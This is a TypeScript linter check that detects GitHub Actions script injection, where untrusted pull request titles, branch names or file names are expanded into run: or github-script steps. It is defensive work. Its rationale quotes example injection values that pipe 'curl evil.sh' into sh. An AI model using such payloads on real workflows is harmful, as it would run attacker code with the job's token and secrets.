import { defineCheck } from '../types';
import { EXPRESSION, TaintAnalysis } from './_taint';
import { actionName, listWorkflows } from './_workflows';

export default defineCheck({
  id: 'ci/script-injection',
  target: 'repository',
  meta: {
    title: 'Untrusted event text is expanded into a script',
    category: 'security',
    severity: 'error',
    rationale:
      'The runner pastes `${{ … }}` into the script before the shell reads it. A pull request titled `a"; curl evil.sh | sh; echo "`, a branch named `$(…)` or a directory named `x;curl evil.sh|sh` then runs as code in the job, with its token and secrets. GitHub\'s security hardening guide lists the event fields; the check also follows them (and file or directory names listed by stackgate validate, tj-actions/changed-files and dorny/paths-filter) through job outputs (`needs.*.outputs.*`), `matrix.*` and `env.*`.',
    remediation:
      'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`; in actions/github-script read `context.payload` instead of expanding it into the script.',
    messages: {
      injection: '{{file}} job "{{job}}" expands {{expression}} into a {{where}}: a crafted value runs as code; pass it through env: and quote it',
      derived:
        '{{file}} job "{{job}}" expands {{expression}} into a {{where}}, and it carries {{source}}: a crafted value runs as code; pass it through env: and quote it',
    },
  },
  check(ctx) {
    const workflows = listWorkflows(ctx);
    if (!workflows.length) return ctx.notApplicable();
    for (const w of workflows) {
      const taint = new TaintAnalysis(w);
      for (const job of w.jobs) {
        for (const step of job.steps) {
          const script = step.uses && actionName(step.uses) === 'actions/github-script' ? step.with.script : undefined;
          const targets = [
            { text: step.run, loc: step.runLoc, where: 'run: script' },
            { text: typeof script === 'string' ? script : undefined, loc: step.withNode?.entries.get('script')?.loc, where: 'github-script script' },
          ];
          for (const t of targets) {
            if (!t.text || !t.loc) continue;
            const seen = new Set<string>();
            for (const m of t.text.matchAll(EXPRESSION)) {
              const expression = m[1];
              if (seen.has(expression)) continue;
              seen.add(expression);
              const found = taint.taintOf(expression, job, step);
              if (!found) continue;
              const data = { file: w.file, job: job.id, expression: `\${{ ${expression} }}`, where: t.where };
              if (found.source === found.reference) ctx.report({ messageId: 'injection', data, at: t.loc });
              else ctx.report({ messageId: 'derived', data: { ...data, source: found.source }, at: t.loc });
            }
          }
        }
      }
    }
  },
});
